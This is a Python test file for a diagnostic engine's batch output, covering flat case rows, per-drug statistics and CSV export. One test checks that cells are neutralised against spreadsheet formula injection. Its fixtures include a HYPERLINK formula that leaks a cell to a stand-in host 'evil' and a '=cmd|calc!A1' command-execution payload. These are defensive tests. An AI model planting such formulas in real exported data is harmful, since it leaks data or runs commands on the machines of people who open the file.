# SPDX-License-Identifier: Apache-2.0
"""The flat row of a case (``Differential.to_record``, ``engine.batch.flat``), the CSV table's
cells that a spreadsheet would run as formulas, and the per-drug figures of a batch summary."""

from __future__ import annotations

import csv
import json
from collections import Counter
from pathlib import Path

from engine.api import diagnose
from engine.batch.flat import columns, flat_row, neutralised, write_table
from engine.batch.metrics import median, summarize
from tests.conftest import CASES, MINI_KB
from tests.unit.test_batch_support import patient


def test_rows_have_the_same_columns_for_every_case() -> None:
    d = diagnose(CASES / "clozapine_induced-01.yaml")
    row = d.to_record(top_k=4)
    assert row["top1_cause"] == d.candidates[0].cause and row["top4_probability"] is not None
    assert row["n_alerts"] == len(d.alerts) and row["alerts"].count(";") == len(d.alerts) - 1
    ok = {
        "id": "x",
        "ok": True,
        "differential": json.loads(d.to_json()),
        "expected": ["clozapine_induced"],
        "drugs": [{"drug": "clozapine", "fact": "x:c#1"}],
    }
    failed = {"id": "y", "ok": False, "error": {"field": "labs[0].unit", "message": "bad"},
              "expected": ["sle"]}  # fmt: skip
    names = [name for name, _ in columns(2, expected=True)]
    for record in (ok, failed):
        assert list(flat_row(record, 2, expected=True)) == names
    assert flat_row(ok, 2, expected=True)["hit_top1"] is True
    assert flat_row(failed, 2, expected=True)["error_field"] == "labs[0].unit"


def test_per_drug_counts_exposure_rank_alerts_and_onset() -> None:
    d = json.loads(diagnose(CASES / "clozapine_induced-01.yaml").to_json())
    drug = d["candidates"][0]["evidence_for"][0]["facts"][-1]["id"]  # the course fact
    name = drug.split(":")[1].split("#")[0]
    courses = [{"drug": name, "fact": drug, "onset_days": 24, "on_drug_at_onset": True}]
    unexposed = {"id": "b", "ok": True, "differential": d}
    records = [{"id": "a", "ok": True, "differential": d, "drugs": courses}, unexposed]
    stats = summarize(records).as_dict()["per_drug"][name]
    assert (stats["exposed"], stats["ranked_first"], stats["cases_with_alert"]) == (1, 1, 1)
    assert stats["median_onset_days"] == 24 and sum(stats["alerts"].values()) >= 1
    assert median(Counter({3: 1, 10: 2, 40: 1})) == 10 and median(Counter()) is None


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    """A patient id or an unknown drug name from an upstream system (``=HYPERLINK(...)``,
    ``@SUM(1+1)``, ``=cmd|calc!A1``) was written as it was, and opened as a formula (CSV
    injection); numbers, written as numbers or as text, are never altered."""
    d = json.loads(diagnose(patient(1), kb=MINI_KB).to_json())
    link = '=HYPERLINK("http://evil/?x="&A1,"click")'
    d.update(patient_id=link, unknown_medications=["=cmd|calc!A1"])
    d["candidates"][0]["score"] = -0.5  # a negative number begins with "-"
    records = [
        {"id": link, "source_file": "r.csv", "ok": True, "differential": d},
        {"id": "@SUM(1+1)", "source_file": "+r.csv", "ok": False,
         "error": {"field": "wbc", "message": "-not a number"}},
        {"id": "-0.5", "source_file": "\tr.csv", "ok": False,
         "error": {"field": "wbc", "message": "\rbad"}},
    ]  # fmt: skip
    table = tmp_path / "t.csv"
    assert write_table(table, records) == 3
    with table.open(newline="", encoding="utf-8") as fh:
        ok, at, number = csv.DictReader(fh)
    assert ok["id"] == ok["patient_id"] == "'" + link
    assert ok["unknown_medications"] == "'=cmd|calc!A1"
    assert ok["top1_score"] == "-0.5"  # numbers stay numbers
    assert (at["id"], at["source_file"], at["error_message"]) == (
        "'@SUM(1+1)",
        "'+r.csv",
        "'-not a number",
    )
    assert (number["id"], number["source_file"], number["error_message"]) == (
        "-0.5",
        "'\tr.csv",
        "'\rbad",
    )
    for text in ("-0.5", "+1", "-2e-3", "0.5", "", "clozapine", "a=b"):
        assert neutralised(text) == text
    for text in ("=1+1", "-1+1", "+A1", "@x", "\t=1", "\r-", "-", "-inf"):
        assert neutralised(text) == "'" + text
